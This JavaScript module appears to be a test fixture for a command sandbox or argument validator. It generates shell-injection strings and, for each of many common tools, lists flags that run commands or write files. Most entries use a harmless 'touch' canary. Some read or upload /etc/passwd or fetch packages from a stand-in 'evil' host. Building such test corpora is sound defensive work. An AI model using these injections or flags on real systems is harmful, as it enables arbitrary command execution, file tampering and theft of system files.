// Arguments that a shell, or a program that reads its flags, would take for something to do.

/** What each would do: leave a mark where nothing may. */
const act = (mark) => [
  `touch ${mark}`,
  `/usr/bin/touch ${mark}`,
  `touch\${IFS}${mark}`,
  `{touch,${mark}}`,
  `sh -c 'touch ${mark}'`,
];
const BEFORE = [
  "",
  "x",
  "HEAD",
  "a.txt",
  "'",
  '"',
  "`",
  "\\",
  "')",
  '")',
  "\n",
  "\r",
  "\0",
  "\u2028",
  "%0a",
  "$(",
  "'\\''",
];
const JOINTS = [
  ";",
  "|",
  "||",
  "&",
  "&&",
  "\n",
  "\r\n",
  " ; ",
  "`",
  "$(",
  "<(",
  ">(",
  "\u0085",
  "%3b",
  "${x;",
  "'; ",
  '"; ',
  "\\n",
  "!",
  "#\n",
];
const CLOSING = { "`": "`", "$(": ")", "<(": ")", ">(": ")", "${x;": "}", "'; ": " '", '"; ': ' "' };

/** More than 1,500 strings. */
export function injections(mark) {
  const joined = BEFORE.flatMap((before) =>
    JOINTS.flatMap((joint) => act(mark).map((command) => `${before}${joint}${command}${CLOSING[joint] ?? ""}`)),
  );
  return [
    ...joined,
    `>${mark}`,
    `>>${mark}`,
    `<${mark}`,
    `2>${mark}`,
    `&>${mark}`,
    "$HOME",
    "~root",
    "*",
    "?",
    "[a-z]",
    "{a,b}",
    "!!",
    "$0",
    "$'\\x41'",
    "%PATH%",
    "(id)",
  ];
}

/** Flags by which honest programs run others or write files, one list a program. */
export function risky(mark) {
  const run = `touch ${mark}`;
  return {
    git: [
      ...[
        [`--upload-pack=${run}`],
        ["--upload-pack", run],
        ["-c", `core.pager=${run}`],
        ["-c", `alias.x=!${run}`],
        [`--output=${mark}`],
      ],
      ...[
        [`--exec-path=${mark}`],
        ["--no-index", "/etc/passwd", "/dev/null"],
        [`--ext-diff`],
        ["-O", mark],
        [`--open-files-in-pager=${run}`],
      ],
    ],
    tar: [
      [`--to-command=${run}`],
      [`--checkpoint-action=exec=${run}`, "--checkpoint=1"],
      ["-I", run],
      [`--use-compress-program=${run}`],
      [`--rmt-command=${run}`],
    ],
    find: [
      ["-exec", "touch", mark, ";"],
      ["-execdir", "touch", mark, ";"],
      ["-ok", "touch", mark],
      ["-delete"],
      ["-fprint", mark],
      ["-fls", mark],
      ["-fprintf", mark, "x"],
    ],
    sed: [
      ["-i", "s/a/b/"],
      ["-n", `1e ${run}`],
      ["-e", `w ${mark}`],
      ["--in-place"],
      ["-f", mark],
      ["-s", `1w${mark}`],
    ],
    rg: [[`--pre=${run}`], ["--pre", run], ["--hostname-bin", run], ["-f", mark], ["--search-zip"]],
    man: [["-P", run], [`--pager=${run}`], ["-H", run], [`--html=${run}`], ["-T", mark]],
    sort: [["-o", mark], [`--output=${mark}`], [`--compress-program=${run}`], ["-T", mark], ["--files0-from=-"]],
    ssh: [["-oProxyCommand=" + run], ["-o", `ProxyCommand=${run}`], ["-F", mark], ["-E", mark], ["-L", "1:x:1"]],
    curl: [
      ["-o", mark],
      ["-K", mark],
      [`--output=${mark}`],
      ["-T", "/etc/passwd"],
      ["-d", "@/etc/passwd"],
      ["--unix-socket", mark],
    ],
    ...launchers(mark, run),
    env: [["-S", run], ["-i", "touch", mark], [`--split-string=${run}`], ["--chdir=/"], ["-C", "/"]],
  };
}

/** Programs whose whole use can be to run others. */
function launchers(mark, run) {
  return {
    awk: [[`BEGIN{system("${run}")}`], [`BEGIN{"${run}"|getline}`], [`{print > "${mark}"}`], ["-f", mark]],
    xargs: [
      ["-a", "list", ...run.split(" ")],
      ["-I{}", "sh", "-c", "{}"],
      ["--arg-file=list", "touch", mark],
    ],
    rsync: [["-e", `sh -c '${run}'`], [`--rsh=${run}`], [`--rsync-path=${run}`], ["--remove-source-files"]],
    zip: [["-T", "-TT", run], [`--unzip-command=${run}`], ["-b", "/tmp"]],
    vim: [["-c", `:!${run}`], [`+!${run}`], ["--cmd", `call system("${run}")`], ["-S", mark], ["-w", mark]],
    less: [[`+!${run}`], ["-o", mark], ["-k", mark], [`--lesskey-src=${mark}`]],
    perl: [
      ["-e", `system "${run}"`],
      ["-E", run],
      ["-MPOSIX", "-e", "1"],
      ["-i.bak", "-pe", "s/a/b/"],
    ],
    python3: [
      ["-c", `import os; os.system("${run}")`],
      ["-m", "pty"],
      ["-i", "x"],
      ["-X", "importtime"],
    ],
    node: [["-e", `require("child_process").execSync("${run}")`], ["-r", mark], [`--require=${mark}`], ["--inspect"]],
    make: [[`--eval=x:;${run}`], ["-f", mark], [`SHELL=${mark}`], ["-C", "/"]],
    docker: [["-H", "tcp://evil"], ["--host=unix:///x"], ["run", "-v", "/:/m", "x"]],
    nmap: [["--script", mark], [`--script=${mark}`], ["-oN", mark], ["-iL", "/etc/passwd"]],
    tcpdump: [
      ["-z", mark],
      ["-w", mark],
      ["-r", "/etc/passwd"],
      ["-Z", "root"],
    ],
    watch: [["-x", "touch", mark], ["--exec", "touch", mark], [run]],
    timeout: [
      ["-k", "1", "1", "touch", mark],
      ["1s", "touch", mark],
      ["--foreground", "1", run],
    ],
    nice: [
      ["-n", "19", "touch", mark],
      ["--adjustment=1", "touch", mark],
    ],
    split: [[`--filter=${run}`], ["--filter", run, "x"], ["--additional-suffix=/../x"]],
    wget: [[`--use-askpass=${mark}`], ["-O", mark], [`--post-file=/etc/passwd`], ["-i", "/etc/passwd"], ["-e", "x=y"]],
    npm: [["exec", "-c", run], ["--script-shell", mark], [`--prefix=/`], ["x", "-y", "evil"]],
    pip: [["install", "--index-url", "http://evil"], ["--target=/"], [`--log=${mark}`]],
    gdb: [["-ex", `!${run}`], ["--batch", "-x", mark], ["-nx", "-ex", "python 1"], [`--eval-command=shell ${run}`]],
    strace: [
      ["-o", `|${run}`],
      ["-o", mark, "touch", mark],
      ["-f", "touch", mark],
    ],
    systemctl: [
      ["link", mark],
      ["--root=/", "x"],
      ["-H", "evil"],
      ["set-environment", "PAGER=x"],
    ],
    crontab: [["-e"], ["-"], [mark, "-u", "root"], ["-r"]],
    cp: [
      ["--target-directory=/etc", "x"],
      ["-t", "/etc", "x"],
      ["--no-preserve=mode", "x", "/etc/x", "y"],
    ],
    dd: [[`of=${mark}`], ["if=/etc/passwd"], [`of=${mark}`, "if=/dev/zero"]],
  };
}
